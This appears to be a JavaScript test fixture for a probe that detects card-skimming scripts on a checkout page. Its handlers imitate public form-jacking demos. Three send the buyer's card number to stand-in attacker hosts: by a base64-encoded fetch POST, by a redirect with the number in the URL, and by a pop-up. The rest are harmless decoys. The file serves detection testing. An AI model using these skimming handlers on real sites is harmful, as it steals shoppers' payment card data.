// Handlers a buyer's clicks run, in the shapes of public form-jacker
// demos: a skimmer that sends the card number, base64-encoded, when Pay is
// clicked; one that takes the buyer away with the number in the URL, and
// one that opens a pop-up with it; and handlers on elements the probe must
// not click (a link that leaves, a button far from the card fields) or
// need not (a reset that empties the fields before Pay is clicked). The express handler's timer shows that
// the page was not left when the number was sent away in a URL.
var beacon = function (what) { navigator.sendBeacon('https://log.shop.example/' + what, ''); };
var number = function () { return document.getElementById('cc-number').value; };
document.getElementById('submit').addEventListener('click', function () {
  fetch('https://clk.attacker.example/k', {method: 'POST', body: btoa(JSON.stringify({n: number()}))});
});
document.getElementById('express').addEventListener('mousedown', function () {
  setTimeout(function () { beacon('express'); }, 3000);
});
document.getElementById('later').onclick = function (e) {
  e.preventDefault();
  location.href = 'https://nav.attacker.example/?d=' + encodeURIComponent(number());
};
document.getElementById('wallet').addEventListener('click', function () {
  window.open('https://pop.attacker.example/w?c=' + btoa(number()), 'pay', 'width=400');
});
document.getElementById('help').addEventListener('click', function () { beacon('help'); });
document.getElementById('newsletter').addEventListener('click', function () { beacon('newsletter'); });
document.getElementById('menu').onclick = function () { beacon('menu'); };
document.getElementById('pay').addEventListener('submit', function () { beacon('submitted'); });
